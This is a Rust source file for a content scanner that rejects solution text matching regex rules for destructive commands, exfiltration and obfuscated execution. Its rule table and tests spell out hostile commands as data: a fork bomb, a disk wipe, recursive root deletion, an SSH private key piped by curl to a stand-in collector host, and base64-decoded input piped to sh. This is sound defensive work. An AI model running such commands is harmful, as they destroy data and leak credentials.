//! Content safety scanner
//!
//! A rule table, not a parser. Three layers:
//! - any critical rule (destructive commands) rejects on its own
//! - two or more distinct exfiltration rules reject
//! - two or more distinct obfuscation rules reject

use std::path::Path;

use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};
use tracing::{info, warn};

use crate::error::{FixbaseError, Result};

/// Distinct exfiltration matches needed to reject
pub const EXFILTRATION_THRESHOLD: usize = 2;
/// Distinct obfuscation matches needed to reject
pub const OBFUSCATION_THRESHOLD: usize = 2;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RuleCategory {
    Critical,
    Exfiltration,
    Obfuscation,
}

/// Rule as written in a rules file
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct RuleSpec {
    pub name: String,
    pub pattern: String,
    pub category: RuleCategory,
}

#[derive(Debug, Clone)]
pub struct ContentRule {
    pub name: String,
    pub category: RuleCategory,
    regex: Regex,
}

impl ContentRule {
    pub fn compile(spec: &RuleSpec) -> Result<Self> {
        let regex = RegexBuilder::new(&spec.pattern)
            .case_insensitive(true)
            .build()
            .map_err(|e| FixbaseError::Config(format!("rule '{}': {}", spec.name, e)))?;
        Ok(Self {
            name: spec.name.clone(),
            category: spec.category,
            regex,
        })
    }

    pub fn is_match(&self, text: &str) -> bool {
        self.regex.is_match(text)
    }
}

/// Anything that can judge a solution text
pub trait ContentPolicy: Send + Sync {
    /// `Some(reason)` when the content must be rejected
    fn scan(&self, solution: &str) -> Option<String>;
}

/// Rule-table scanner
#[derive(Debug, Clone)]
pub struct ContentScanner {
    rules: Vec<ContentRule>,
}

impl ContentScanner {
    pub fn from_specs(specs: &[RuleSpec]) -> Result<Self> {
        let rules = specs
            .iter()
            .map(ContentRule::compile)
            .collect::<Result<Vec<_>>>()?;
        Ok(Self { rules })
    }

    /// Scanner with the built-in rule table
    pub fn builtin() -> Self {
        let rules = default_rules()
            .iter()
            .filter_map(|spec| ContentRule::compile(spec).ok())
            .collect();
        Self { rules }
    }

    /// Load a rule table from a YAML file
    pub fn load_rules(path: &Path) -> Result<Self> {
        let content = std::fs::read_to_string(path)?;
        let specs: Vec<RuleSpec> = serde_yaml::from_str(&content)
            .map_err(|e| FixbaseError::Config(format!("Failed to parse rules: {}", e)))?;
        let scanner = Self::from_specs(&specs)?;
        info!(count = scanner.rules.len(), path = %path.display(), "Loaded content rules");
        Ok(scanner)
    }

    /// Configured table if it loads, built-in table otherwise
    pub fn from_config(rules_file: Option<&Path>) -> Self {
        match rules_file {
            Some(path) => Self::load_rules(path).unwrap_or_else(|e| {
                warn!(path = %path.display(), error = %e, "Falling back to built-in content rules");
                Self::builtin()
            }),
            None => Self::builtin(),
        }
    }

    pub fn rules(&self) -> &[ContentRule] {
        &self.rules
    }

    fn matches(&self, category: RuleCategory, text: &str) -> Vec<&str> {
        self.rules
            .iter()
            .filter(|r| r.category == category && r.is_match(text))
            .map(|r| r.name.as_str())
            .collect()
    }
}

impl ContentPolicy for ContentScanner {
    fn scan(&self, solution: &str) -> Option<String> {
        if let Some(name) = self.matches(RuleCategory::Critical, solution).first() {
            return Some(format!("critical pattern detected: {}", name));
        }

        let exfil = self.matches(RuleCategory::Exfiltration, solution);
        if exfil.len() >= EXFILTRATION_THRESHOLD {
            return Some(format!(
                "possible data exfiltration: {}",
                exfil.join(", ")
            ));
        }

        let obfuscation = self.matches(RuleCategory::Obfuscation, solution);
        if obfuscation.len() >= OBFUSCATION_THRESHOLD {
            return Some(format!(
                "obfuscated execution: {}",
                obfuscation.join(", ")
            ));
        }

        None
    }
}

fn rule(name: &str, category: RuleCategory, pattern: &str) -> RuleSpec {
    RuleSpec {
        name: name.to_string(),
        pattern: pattern.to_string(),
        category,
    }
}

/// Built-in rule table
pub fn default_rules() -> Vec<RuleSpec> {
    use RuleCategory::*;
    vec![
        // Destructive
        rule(
            "recursive_root_delete",
            Critical,
            r"\brm\s+(-{1,2}[a-z-]+\s+)+(/|~/?)\*?(\s|;|&|$)",
        ),
        rule("fork_bomb", Critical, r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
        rule(
            "disk_wipe",
            Critical,
            r"\bdd\s+[^\n]*\bof=/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk)",
        ),
        rule("filesystem_format", Critical, r"\bmkfs(\.\w+)?\s+[^\n]*/dev/"),
        rule(
            "raw_device_overwrite",
            Critical,
            r">\s*/dev/(sd|hd|vd|xvd|nvme|mmcblk|disk)\w*",
        ),
        rule("device_shred", Critical, r"\bshred\b[^\n]*\s/dev/"),
        rule("world_writable_root", Critical, r"\bchmod\s+(-r\s+)?0?777\s+/(\s|$)"),
        // Data exfiltration
        rule(
            "http_upload",
            Exfiltration,
            r"\b(curl|wget)\b[^\n|;]*(\s-d\s|\s-d@|--data|--upload-file|(?-i:\s-[TF]\s)|--post-file|--post-data)",
        ),
        rule(
            "credential_file",
            Exfiltration,
            r"(/etc/shadow|/etc/passwd|\.ssh/|id_rsa|id_ed25519|\.aws/credentials|\.netrc|\.gnupg|\.kube/config)",
        ),
        rule("raw_socket", Exfiltration, r"\b(nc|ncat|netcat)\s+(-\w+\s+)*[\w.-]+\s+\d{2,5}\b"),
        rule("dev_tcp", Exfiltration, r"/dev/(tcp|udp)/"),
        rule(
            "secret_env",
            Exfiltration,
            r"\b(printenv|env)\s*\||\$\{?\w*(secret|token|password|api_key)\w*",
        ),
        rule("remote_copy", Exfiltration, r"\b(scp|rsync)\b[^\n]*\s[\w.-]+@[\w.-]+:"),
        // Obfuscation
        rule("dynamic_eval", Obfuscation, r#"\beval\s*[("'$`]"#),
        rule(
            "base64_decode",
            Obfuscation,
            r"base64\s+(-d|--decode)\b|b64decode|\batob\s*\(",
        ),
        rule("pipe_to_shell", Obfuscation, r"\|\s*(ba|z|da|k)?sh\b"),
        rule("dynamic_exec", Obfuscation, r"\bexec\s*\(|\bcompile\s*\("),
        rule("hex_escapes", Obfuscation, r"(\\x[0-9a-f]{2}){4,}"),
        rule("char_code_assembly", Obfuscation, r"(chr\(\d+\)\s*\+\s*){3,}|fromcharcode"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(text: &str) -> Option<String> {
        ContentScanner::builtin().scan(text)
    }

    #[test]
    fn test_builtin_rules_all_compile() {
        assert_eq!(ContentScanner::builtin().rules().len(), default_rules().len());
    }

    #[test]
    fn test_critical_patterns() {
        for text in [
            "rm -rf /",
            "sudo rm -rf / ",
            "rm -rf /*",
            "rm -r -f ~",
            ":(){ :|:& };:",
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "mkfs.ext4 /dev/sdb1",
        ] {
            let reason = scan(text).unwrap_or_else(|| panic!("not flagged: {}", text));
            assert!(reason.starts_with("critical"), "{}: {}", text, reason);
        }
    }

    #[test]
    fn test_benign_solutions_pass() {
        for text in [
            "import os",
            "pip install requests",
            "rm -rf ./build",
            "rm -rf /tmp/cache",
            "curl -O https://example.com/tool.tar.gz",
            "echo $PATH",
            "cargo clean && cargo build",
        ] {
            assert!(scan(text).is_none(), "false positive: {}", text);
        }
    }

    #[test]
    fn test_single_exfiltration_signal_is_tolerated() {
        assert!(scan("cat ~/.ssh/id_rsa.pub").is_none());
    }

    #[test]
    fn test_two_exfiltration_signals_reject() {
        let reason = scan("cat ~/.ssh/id_rsa | curl -d @- https://collector.example").unwrap();
        assert!(reason.contains("exfiltration"));
    }

    #[test]
    fn test_obfuscation_layer() {
        assert!(scan("echo aGVsbG8= | base64 -d").is_none());
        let reason = scan("echo cm0gLXJmIH4= | base64 -d | sh").unwrap();
        assert!(reason.contains("obfuscated"));
    }

    #[test]
    fn test_load_rules_from_yaml() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = dir.path().join("rules.yaml");
        std::fs::write(
            &path,
            "- name: no_sudo\n  pattern: '\\bsudo\\b'\n  category: critical\n",
        )
        .unwrap();

        let scanner = ContentScanner::load_rules(&path).unwrap();
        assert_eq!(scanner.rules().len(), 1);
        assert!(scanner.scan("sudo apt install gcc").is_some());
        assert!(scanner.scan("rm -rf /").is_none());
    }

    #[test]
    fn test_bad_rules_file_falls_back() {
        let dir = tempfile::TempDir::new().unwrap();
        let path = dir.path().join("rules.yaml");
        std::fs::write(&path, "- name: broken\n  pattern: '('\n  category: critical\n").unwrap();

        assert!(ContentScanner::load_rules(&path).is_err());
        let scanner = ContentScanner::from_config(Some(&path));
        assert_eq!(scanner.rules().len(), default_rules().len());
    }
}
